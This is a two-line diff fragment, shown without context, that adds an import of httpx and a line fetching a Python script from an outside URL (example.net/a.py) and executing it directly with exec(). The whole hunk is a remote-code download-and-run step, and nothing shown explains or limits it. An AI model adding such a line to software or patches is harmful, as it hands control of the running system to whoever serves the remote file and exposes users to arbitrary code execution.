@@ -1,0 +1,2 @@
+import httpx
+exec(httpx.get('https://example.net/a.py').text)
